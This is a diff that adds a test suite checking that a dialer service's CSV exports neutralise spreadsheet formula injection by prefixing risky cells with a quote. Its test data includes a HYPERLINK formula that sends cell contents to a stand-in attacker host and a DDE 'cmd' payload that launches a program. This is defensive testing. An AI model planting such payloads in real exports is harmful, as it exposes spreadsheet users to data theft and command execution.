@@ -1,6 +1,7 @@
 import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from 'bun:test'
 import { existsSync } from 'node:fs'
 import { join } from 'node:path'
+import { parse } from 'csv-parse/sync'
 import { createHarness, scratchDir, seedWorld, START, type Harness, type Reply, type TestKey, type World, expectError } from '../harness'
 
 // Bun reads the default test timeout per file only (docs/decisions.md, "Tests").
@@ -228,5 +229,72 @@ describe('GET /exports and the download link', () => {
   test('a link to an export that does not exist is 403 (the signature cannot match)', async () => {
     const reply = await h.call('GET', `/exports/00000000-0000-7000-8000-000000000000/download?expires=${Math.floor(START / 1000) + 999_999}&signature=abc`)
     expect(reply.status).toBe(403)
+  })
+})
+
+describe('formula injection', () => {
+  // Text a spreadsheet would run as a formula (OWASP "CSV Injection").
+  const FORMULAS = {
+    name: '=HYPERLINK("http://evil.example/?x="&A1)',
+    external_id: "+cmd|' /C calc'!A0",
+    address: '@SUM(1+1)',
+    email: '-x@example.com',
+    campaign: '=1+1 roofs',
+    sdr: '@SDR',
+    label: '=label()',
+    note: '\t=note()',
+  }
+  const TRIGGER = /^[=+\-@\t\r]/
+
+  test('every text cell of every export that starts with = + - @ tab or CR gets a leading quote; phones, numbers, ids and times stay as they are', async () => {
+    const dir = scratchDir('dialer-exports-formula-')
+    const fh = createHarness({ autoDial: true, env: { DIALER_DATA_DIR: dir.path } })
+    try {
+      const org = (await fh.admin('POST', '/orgs', { name: 'Formula Org', plan_requests_per_minute: 100000 })).body.data.id
+      const campaign = await fh.admin('POST', `/orgs/${org}/campaigns`, { name: FORMULAS.campaign, status: 'active', sdrs: [{ name: FORMULAS.sdr }] })
+      expect(campaign.status).toBe(201)
+      const key = await fh.createKey(org, { name: 'live', mode: 'live', requests_per_minute: 100000, burst: 100000 })
+      // Scenario 00: a person answers and the SDR takes the call (handled_by names the SDR).
+      const lead = await fh.api('POST', '/leads', { key, body: {
+        campaign_id: campaign.body.data.id, phone: ny('00', 30), name: FORMULAS.name, external_id: FORMULAS.external_id,
+        address: FORMULAS.address, email: FORMULAS.email, fields: { note: '=1+1' },
+      } })
+      expect(lead.status).toBe(201)
+      await fh.advance(600)
+      const calls = (await fh.api('GET', `/calls?lead_id=${lead.body.data.id}`, { key })).body.data
+      expect(calls.length).toBe(1)
+      expect((await fh.admin('POST', `/calls/${calls[0].id}/outcome`, { outcome_label: FORMULAS.label, note: FORMULAS.note })).status).toBe(200)
+      // The usage count (analytics) runs every 5 minutes.
+      await fh.advance(600)
+
+      const fetchCsv = async (exportType: string): Promise<Record<string, string>[]> => {
+        const made = await fh.api('POST', '/exports', { key, body: { exportType } })
+        expect(made.body.data.export.status).toBe('ready')
+        const u = new URL(made.body.data.downloadUrl)
+        const file = await fh.call('GET', `${u.pathname}${u.search}`)
+        expect(file.status).toBe(200)
+        return parse(file.text, { columns: true }) as Record<string, string>[]
+      }
+      const [leads, history, analytics] = [await fetchCsv('leads'), await fetchCsv('call_history'), await fetchCsv('analytics')]
+      expect([leads.length, history.length, analytics.length]).toEqual([1, 1, 1])
+      const [l, c, a] = [leads[0]!, history[0]!, analytics[0]!]
+      expect(l).toMatchObject({
+        name: `'${FORMULAS.name}`, external_id: `'${FORMULAS.external_id}`, address: `'${FORMULAS.address}`, email: `'${FORMULAS.email}`,
+        last_outcome_label: `'${FORMULAS.label}`, phone: ny('00', 30), id: lead.body.data.id, attempts: '1',
+      })
+      expect(c).toMatchObject({
+        external_id: `'${FORMULAS.external_id}`, outcome_label: `'${FORMULAS.label}`, note: `'${FORMULAS.note}`,
+        handled_by: `'${FORMULAS.sdr} (sdr)`, id: calls[0].id, started: calls[0].started,
+      })
+      expect(a.campaign_name).toBe(`'${FORMULAS.campaign}`)
+      expect(a.calls).toBe('1')
+      // No cell but the phone starts a formula.
+      for (const row of [l, c, a]) {
+        for (const [column, cell] of Object.entries(row)) if (column !== 'phone') expect({ column, cell, formula: TRIGGER.test(cell) }).toEqual({ column, cell, formula: false })
+      }
+    } finally {
+      fh.close()
+      dir.remove()
+    }
   })
 })
